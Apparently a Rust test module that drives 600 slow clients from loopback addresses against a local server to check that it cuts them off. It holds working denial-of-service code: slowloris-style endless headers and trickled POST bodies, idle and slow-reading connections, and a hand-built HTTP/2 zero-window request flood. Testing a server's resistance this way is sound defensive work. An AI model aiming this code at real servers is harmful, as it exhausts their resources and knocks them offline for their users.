//! Clients that take their time, some hundreds at once, from addresses of this machine that are
//! not those of the honest ones; whoever is cut comes back at once.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::sleep;

/// How many there are of each kind.
const EACH: usize = 120;
/// How many there are.
pub(crate) const CLIENTS: usize = EACH * Kind::ALL.len();
/// How long one does nothing between two bytes.
const STEP: Duration = Duration::from_millis(1_500);
/// How long one waits before it comes back.
const AGAIN: Duration = Duration::from_millis(50);

/// What they do.
#[derive(Clone, Copy, Debug)]
enum Kind {
    /// A head that never ends.
    Head,
    /// A body that comes byte by byte.
    Body,
    /// Nothing at all.
    Idle,
    /// Large answers that are hardly read.
    Reader,
    /// Over HTTP/2: many large answers, and no room for any of them.
    Window,
}

impl Kind {
    const ALL: [Self; 5] = [
        Self::Head,
        Self::Body,
        Self::Idle,
        Self::Reader,
        Self::Window,
    ];
}

/// What they did.
#[derive(Debug, Default)]
struct Counts {
    is_over: AtomicBool,
    opened: AtomicU64,
    cut: AtomicU64,
}

/// The attack, on a thread of its own.
#[derive(Debug)]
pub(crate) struct Attack {
    counts: Arc<Counts>,
    thread: JoinHandle<()>,
}

impl Attack {
    /// All of them begin.
    pub(crate) fn begin(address: SocketAddr) -> Self {
        let counts = Arc::new(Counts::default());
        let known = Arc::clone(&counts);
        let thread = std::thread::spawn(move || {
            let runtime = tokio::runtime::Builder::new_current_thread();
            let runtime = { runtime }.enable_all().build().unwrap();
            runtime.block_on(async {
                let mut clients = tokio::task::JoinSet::new();
                for number in 0..CLIENTS {
                    let kind = Kind::ALL[number % Kind::ALL.len()];
                    // Five addresses: none of them beyond its connections.
                    let own = Ipv4Addr::new(127, 0, 0, 10 + (number / EACH) as u8);
                    clients.spawn(come_and_come_again(address, own, kind, Arc::clone(&known)));
                }
                while !known.is_over.load(Ordering::Relaxed) {
                    sleep(Duration::from_millis(100)).await;
                }
                clients.shutdown().await;
            });
        });
        Self { counts, thread }
    }

    /// All of them stop: how many connections there were, and how many of them the server cut.
    pub(crate) fn end(self) -> (u64, u64) {
        self.counts.is_over.store(true, Ordering::Relaxed);
        self.thread.join().unwrap();
        let read = |count: &AtomicU64| count.load(Ordering::Relaxed);
        (read(&self.counts.opened), read(&self.counts.cut))
    }
}

async fn come_and_come_again(to: SocketAddr, own: Ipv4Addr, kind: Kind, counts: Arc<Counts>) {
    loop {
        if let Ok(stream) = open(to, own, kind).await {
            counts.opened.fetch_add(1, Ordering::Relaxed);
            // What ends, ends by the server.
            let _how = dawdle(stream, kind).await;
            counts.cut.fetch_add(1, Ordering::Relaxed);
        }
        sleep(AGAIN).await;
    }
}

async fn open(to: SocketAddr, own: Ipv4Addr, kind: Kind) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    if matches!(kind, Kind::Reader) {
        // Hardly any room on this side, so that the server has to keep the rest.
        socket.set_recv_buffer_size(4_096)?;
    }
    socket.bind(SocketAddr::new(IpAddr::V4(own), 0))?;
    socket.connect(to).await
}

async fn dawdle(mut stream: TcpStream, kind: Kind) -> std::io::Result<()> {
    match kind {
        Kind::Head => {
            stream
                .write_all(b"GET / HTTP/1.1\r\nHost: zhida.test\r\n")
                .await?;
            loop {
                stream.write_all(b"X-A: b\r\n").await?;
                sleep(STEP).await;
            }
        }
        Kind::Body => {
            stream
                .write_all(
                    b"POST /sign-in HTTP/1.1\r\nHost: zhida.test\r\nContent-Type: \
                      application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\n",
                )
                .await?;
            loop {
                stream.write_all(b"a").await?;
                sleep(STEP).await;
            }
        }
        Kind::Idle => {
            let mut nothing = [0; 64];
            while stream.read(&mut nothing).await? > 0 {}
            Ok(())
        }
        Kind::Reader => {
            for _ in 0..64 {
                stream
                    .write_all(b"GET /measures?delivery=all HTTP/1.1\r\nHost: zhida.test\r\n\r\n")
                    .await?;
            }
            let mut few = [0; 64];
            while stream.read(&mut few).await? > 0 {
                sleep(STEP).await;
            }
            Ok(())
        }
        Kind::Window => withhold(stream).await,
    }
}

/// Asks for 64 large pages over HTTP/2 and gives no room for their bodies.
async fn withhold(mut stream: TcpStream) -> std::io::Result<()> {
    stream
        .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        .await?;
    // SETTINGS: the window of every stream is nothing at first (RFC 9113, 6.5.2).
    stream
        .write_all(&[0, 0, 6, 4, 0, 0, 0, 0, 0, 0, 4, 0, 0, 0, 0])
        .await?;
    for stream_number in (1..128_u32).step_by(2) {
        stream.write_all(&headers(stream_number)).await?;
    }
    let mut bytes = [0; 4_096];
    while stream.read(&mut bytes).await? > 0 {}
    Ok(())
}

/// A HEADERS frame that ends its stream: GET of a large page, with names from the static table
/// (RFC 7541, appendix A).
fn headers(stream: u32) -> Vec<u8> {
    let literal = |name: u8, value: &str| {
        let length = u8::try_from(value.len()).unwrap();
        let mut field = vec![name, length];
        field.extend(value.bytes());
        field
    };
    // :method GET, :scheme http, then :path and :authority as literals.
    let mut block = vec![0x82, 0x86];
    block.extend(literal(0x04, "/measures?delivery=all"));
    block.extend(literal(0x01, "zhida.test"));
    let length = u8::try_from(block.len()).unwrap();
    // HEADERS with END_STREAM and END_HEADERS.
    let mut frame = vec![0, 0, length, 1, 0x05];
    frame.extend(stream.to_be_bytes());
    frame.extend(block);
    frame
}
